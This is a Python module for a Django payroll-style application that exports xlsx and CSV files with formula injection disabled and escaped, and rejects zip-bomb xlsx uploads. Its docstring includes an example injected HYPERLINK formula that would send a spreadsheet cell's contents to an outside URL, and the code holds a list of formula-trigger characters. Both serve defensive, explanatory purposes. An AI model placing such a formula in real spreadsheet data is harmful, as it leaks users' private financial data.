"""Spreadsheets in and out, safely.

Out: a name, position, bank or remark typed by someone else must stay text in the file an officer
opens. XlsxWriter's `write()` turns a string starting with "=" into a formula and one looking like
a URL into a hyperlink, so a name such as `=HYPERLINK("http://…?d="&F6,"Lihat")` would run in the
payroll list; `workbook()` creates every workbook with those conversions off. A csv cell starting
with = + - @, a tab or a carriage return is read as a formula by Excel and LibreOffice, so
`csv_writer()` prefixes such text with an apostrophe (OWASP "CSV injection"); numbers, and text that
is just a number ("-25000"), stay as they are, so amounts and account numbers reach the bank intact.

In: an xlsx is a zip archive; a few MB can unpack to gigabytes that openpyxl would read into memory
(a zip bomb). `xlsx_check()` refuses, before anything is unpacked, an archive that is not whole,
is not a workbook, or whose parts unpack to more than XLSX_MAX_UNPACKED.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from typing import Any

from django.core.exceptions import ValidationError

# ---------------------------------------------------------------------------------------------------
# xlsx written

#: Options for every xlsxwriter.Workbook of the project: strings are written as strings.
WORKBOOK_OPTIONS = {"in_memory": True, "strings_to_formulas": False, "strings_to_urls": False}


def workbook(out, **options):
    """An xlsxwriter.Workbook writing to `out` (a BytesIO or a path) in which `write()` never turns
    text into a formula or a hyperlink (formulas meant as such go through `write_formula`)."""
    import xlsxwriter

    return xlsxwriter.Workbook(out, {**options, **WORKBOOK_OPTIONS})


XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def xlsx_response(data: bytes, filename: str):
    """An HttpResponse downloading `data` (a closed workbook's bytes) as `filename`."""
    from django.http import HttpResponse

    resp = HttpResponse(data, content_type=XLSX_CONTENT_TYPE)
    resp["Content-Disposition"] = f'attachment; filename="{filename}"'
    return resp


# ---------------------------------------------------------------------------------------------------
# csv written

#: What makes a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")


def csv_cell(value: Any) -> Any:
    """`value` as a csv cell that no spreadsheet runs: text starting with a formula trigger gets a
    leading apostrophe; numbers, text that is just a number and anything else stay unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        if _PLAIN_NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([csv_cell(v) for v in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(out, **kwargs) -> _SafeWriter:
    """csv.writer(out, **kwargs) whose rows go through `csv_cell`."""
    return _SafeWriter(csv.writer(out, **kwargs))


# ---------------------------------------------------------------------------------------------------
# xlsx read

#: The most an uploaded xlsx may unpack to (its parts' declared sizes; Python's zip reader never
#: returns more than a part declares). Far above any real import (50,000 rows unpack to tens of MB).
XLSX_MAX_UNPACKED = 200 * 1024 * 1024

XLSX_DAMAGED = "Berkas xlsx rusak: bukan arsip yang utuh. Simpan ulang dari Excel lalu unggah lagi."
XLSX_NOT_WORKBOOK = "Berkas ini arsip ZIP tetapi bukan buku kerja Excel (.xlsx)."
XLSX_TOO_LARGE = "Isi berkas xlsx terlalu besar setelah diekstrak; pecah berkasnya."


class XlsxRejected(ValidationError):
    """An xlsx refused before it is opened; `.code` is "damaged", "not_workbook" or "too_large"
    and the message is in Indonesian, for the user."""


def xlsx_check(source, *, max_unpacked: int = XLSX_MAX_UNPACKED) -> None:
    """Refuses (XlsxRejected) an xlsx that openpyxl should not open: not a whole zip archive, no
    xl/workbook.xml in it, or parts that unpack to more than `max_unpacked` bytes. Reads only the
    archive's directory. `source`: bytes or a seekable binary file (an upload), whose position is
    put back."""
    if isinstance(source, bytes | bytearray | memoryview):
        fh, start = io.BytesIO(source), None
    else:
        fh = source
        start = fh.tell()
    try:
        with zipfile.ZipFile(fh) as archive:
            infos = archive.infolist()
    except (zipfile.BadZipFile, OSError, ValueError, EOFError) as exc:
        raise XlsxRejected(XLSX_DAMAGED, code="damaged") from exc
    finally:
        if start is not None:
            fh.seek(start)
    if not any(i.filename == "xl/workbook.xml" for i in infos):
        raise XlsxRejected(XLSX_NOT_WORKBOOK, code="not_workbook")
    if sum(i.file_size for i in infos) > max_unpacked:
        raise XlsxRejected(XLSX_TOO_LARGE, code="too_large")
